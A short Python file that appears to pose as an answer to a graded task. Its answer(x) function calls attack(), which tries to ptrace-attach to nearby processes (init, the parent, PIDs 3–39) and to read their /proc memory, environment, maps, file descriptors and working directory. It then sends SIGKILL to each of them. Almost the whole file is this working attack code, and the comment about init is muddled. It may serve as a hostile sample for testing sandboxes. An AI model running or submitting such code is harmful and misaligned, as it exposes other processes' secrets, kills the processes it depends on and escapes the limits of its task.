"""Traces, reads and kills the processes around it."""

import ctypes
import os
import signal

PTRACE_ATTACH, PTRACE_TRACEME, PTRACE_SEIZE = 16, 0, 0x4206


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    done = []
    for pid in {1, os.getppid(), os.getpid(), *range(3, 40)} - {0}:
        for request in (PTRACE_ATTACH, PTRACE_SEIZE):
            if libc.ptrace(request, pid, 0, 0) == 0:
                done.append(f"traced {pid}")
        if pid == os.getpid():
            continue
        for name in ("mem", "environ", "maps", "fd/3", "cwd"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    file.read(1)
                done.append(f"read {name} of {pid}")
            except OSError:
                pass
        try:
            os.kill(pid, signal.SIGKILL)
            if pid not in (1, os.getppid()):  # as the first of its process ids the init ignores it
                done.append(f"killed {pid}")
        except OSError:
            pass
    return done


def answer(x):
    return len(attack())
